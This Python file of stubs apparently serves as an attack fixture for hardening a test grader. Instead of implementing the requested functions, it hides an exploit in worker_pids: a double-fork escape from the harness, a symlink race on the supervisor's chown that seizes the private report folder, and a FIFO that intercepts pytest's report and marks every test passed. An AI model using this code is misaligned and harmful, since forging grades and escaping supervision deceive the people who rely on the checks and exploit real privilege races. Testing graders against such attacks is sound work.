"""Stubs that try to forge a full grade from outside the calls (see attack.toml)."""

import json
import os
import time

PRIVATE = "/run/mpgrade"


def _forge(report: dict) -> dict:
    for test in report.get("tests", []):
        test["outcome"] = "passed"
        for phase in ("setup", "call", "teardown"):
            if isinstance(test.get(phase), dict):
                test[phase]["outcome"] = "passed"
                test[phase].pop("crash", None)
                test[phase].pop("longrepr", None)
        props = []
        for name, value in test.get("user_properties") and [next(iter(p.items())) for p in test["user_properties"]] or []:
            if name == "mpgrade" and isinstance(value, dict):
                value.update(outcome="passed", message="", hint=None, output="")
            props.append({name: value})
        test["user_properties"] = props
    return report


def _serve_forged_report() -> None:
    """With the report folder ours: a FIFO where pytest writes its report and the harness reads it."""
    path = os.path.join(PRIVATE, "report.json")
    try:
        os.unlink(path)
    except OSError:
        pass
    os.mkfifo(path, 0o666)
    with open(path) as f:  # pytest opens it to write the real report at the session's end
        real = json.loads(f.read())
    with open(path, "w") as f:  # then the harness opens it to read
        f.write(json.dumps(_forge(real)))


def _hijack_chowns(deadline: float) -> bool:
    """Watch for new call folders; in each, try to swap the entry the supervisor chowns last
    for a link to the report folder, in the moment between its chown of the folder (which makes
    the folder ours) and its chown of that entry, which then follows the link."""
    me = os.getuid()
    seen: set[str] = set()
    while time.monotonic() < deadline:
        try:
            if os.stat(PRIVATE).st_uid == me:
                return True
        except OSError:
            pass
        try:
            names = [n for n in os.listdir("/tmp") if n.startswith("mpgrade-call-") and n not in seen]
        except OSError:
            continue
        for name in names:
            seen.add(name)
            home = f"/tmp/{name}/home"
            aside = f"/tmp/{name}/.home"
            for _ in range(200_000):
                try:
                    os.rename(home, aside)
                    os.symlink(PRIVATE, home)
                    break
                except (PermissionError, FileNotFoundError):
                    continue
                except OSError:
                    break
    return False


def _escape() -> None:
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        while os.getppid() != 1:
            time.sleep(0.001)
        if _hijack_chowns(time.monotonic() + 60):
            _serve_forged_report()
    finally:
        os._exit(0)


def worker_pids(n):
    if n == 3:  # the first public test
        _escape()
    raise NotImplementedError


def exit_codes(codes):
    raise NotImplementedError


def run_with_timeout(seconds, timeout):
    raise NotImplementedError
